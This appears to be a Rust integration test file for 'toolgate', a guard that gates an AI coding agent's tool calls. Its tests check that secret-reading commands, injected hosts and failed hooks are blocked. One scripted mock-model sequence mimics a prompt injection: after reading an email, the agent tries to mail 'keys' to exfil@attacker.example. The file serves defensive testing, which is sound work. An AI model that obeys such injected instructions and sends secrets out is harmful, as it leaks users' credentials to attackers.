//! The real OpenCode (`opencode-ai`, pinned in tests/package.json) with the plugin `toolgate
//! init --client opencode --hooks` writes (`.opencode/plugin/toolgate.js`), driven offline by
//! a scripted mock of OpenAI's Chat Completions API (an `@ai-sdk/openai-compatible`
//! provider; `support::agent_cli`). `opencode run` asks for no approval, so toolgate alone
//! decides.

use std::path::Path;

use serde_json::json;

use crate::support::agent_cli::{
    Agent, RemoteEverything, check_echo_through_toolgate, check_mail_run,
};
use crate::support::hooks::World;
use crate::support::model_mock::call;

#[test]
fn a_key_read_by_a_shell_command_never_runs_and_an_allowed_command_does() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    opencode.check_key_never_read_and_allowed_command_runs();
}

#[test]
fn a_command_naming_a_host_only_untrusted_content_named_does_not_run() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    opencode.check_tainted_host_command_does_not_run();
}

#[test]
fn a_hook_executable_deleted_after_init_leaves_the_tool_not_run() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    opencode.check_deleted_hook_leaves_the_tool_not_run();
}

/// An ask in a headless run: OpenCode's plugins cannot ask, so toolgate denies and says
/// why; the run ends and the tool did not run.
#[test]
fn an_ask_in_a_headless_run_neither_hangs_nor_runs_the_tool() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    opencode.check_headless_ask_neither_hangs_nor_runs(&[
        "default is ask",
        "cannot ask",
        "waits in `toolgate approvals` as request",
    ]);
}

/// The same ask with a person at `toolgate approvals`: allowed once there while the hook
/// waits, the call runs (OpenCode itself cannot ask).
#[test]
fn an_ask_answered_in_toolgate_approvals_runs_the_tool() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    opencode.check_ask_answered_in_toolgate_approvals_runs();
}

/// An MCP server `init` wrapped in `opencode.json` (its `command` a list; OpenCode names its
/// tools `mail_send_email`): an address only a mail named never reaches it, one the prompt
/// named does (the prompt is confirmed in OpenCode's database), and `unwrap` gives the entry
/// back.
#[test]
fn an_address_only_a_mail_named_never_reaches_the_wrapped_server_and_one_the_prompt_named_does() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    let w = World::with_policy("version: 1\ndefault: allow\npacks: [email]\n");
    let record = w.base().join("record.jsonl");
    let server = toolgate_testkit::bin_path("attack_server");
    let config = w.project().join("opencode.json");
    let original = json!({"mcp": {"mail": {"type": "local", "command":
        [server, "--kind", "mail", "--record", record], "enabled": true}}})
    .to_string();
    std::fs::write(&config, &original).unwrap();
    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
    let policy = w.policy();
    let policy = policy.to_str().unwrap();
    let w = opencode.world_with(w, exe, &["--policy", policy]);
    opencode.init(&w, exe, &["--policy", policy]);
    let wrapped = std::fs::read_to_string(&config).unwrap();
    assert!(wrapped.contains("\"wrap\""), "{wrapped}");
    let script = vec![
        call("mail_read_email", json!({"message_id": "1"})),
        call(
            "mail_send_email",
            json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "as asked"}),
        ),
        call(
            "mail_send_email",
            json!({"to": ["bob@partner.example"], "subject": "notes", "body": "my notes"}),
        ),
    ];
    let (mock, out) = opencode.run(
        &w,
        "Read email 1, then send my notes to bob@partner.example",
        script,
        &[],
    );
    check_mail_run(&mock, &out, &record, 0, true);
    // The run set the model provider in the file; `unwrap` restores the entry as it was.
    opencode.unwrap(&w, exe);
    let restored: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&config).unwrap()).unwrap();
    let original: serde_json::Value = serde_json::from_str(&original).unwrap();
    assert_eq!(restored["mcp"], original["mcp"]);
}

#[test]
fn a_broker_that_cannot_start_leaves_the_tool_not_run() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    opencode.check_broker_that_cannot_start_leaves_the_tool_not_run();
}

#[test]
fn a_broker_that_hangs_leaves_the_tool_not_run() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    opencode.check_hanging_broker_leaves_the_tool_not_run();
}

/// A remote server (`type: remote`: server-everything over Streamable HTTP, on loopback)
/// becomes a local one running `toolgate wrap --url`: OpenCode starts it, the call reaches
/// the server through toolgate (its audit has the decision), and `unwrap` gives the entry
/// back as it was.
#[test]
fn a_remote_server_is_wrapped_and_its_calls_go_through_toolgate() {
    let Some(opencode) = Agent::opencode() else {
        return;
    };
    let Some(server) = RemoteEverything::start() else {
        return;
    };
    let port = server.port;
    let w = World::with_policy("version: 1\ndefault: allow\npacks: []\n");
    let config = w.project().join("opencode.json");
    let original = json!({"mcp": {"everything": {"type": "remote",
        "url": format!("http://127.0.0.1:{port}/mcp"), "enabled": true}}})
    .to_string();
    std::fs::write(&config, &original).unwrap();
    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
    let policy = w.policy();
    let policy = policy.to_str().unwrap();
    let w = opencode.world_with(w, exe, &["--policy", policy]);
    opencode.init(&w, exe, &["--policy", policy]);
    let wrapped: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&config).unwrap()).unwrap();
    let entry = &wrapped["mcp"]["everything"];
    assert_eq!(entry["type"], "local", "{wrapped}");
    assert!(entry["command"].to_string().contains("--url"), "{wrapped}");
    check_echo_through_toolgate(&opencode, &w, "everything_echo", server);
    opencode.unwrap(&w, exe);
    let restored: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&config).unwrap()).unwrap();
    let original: serde_json::Value = serde_json::from_str(&original).unwrap();
    assert_eq!(restored["mcp"], original["mcp"]);
}
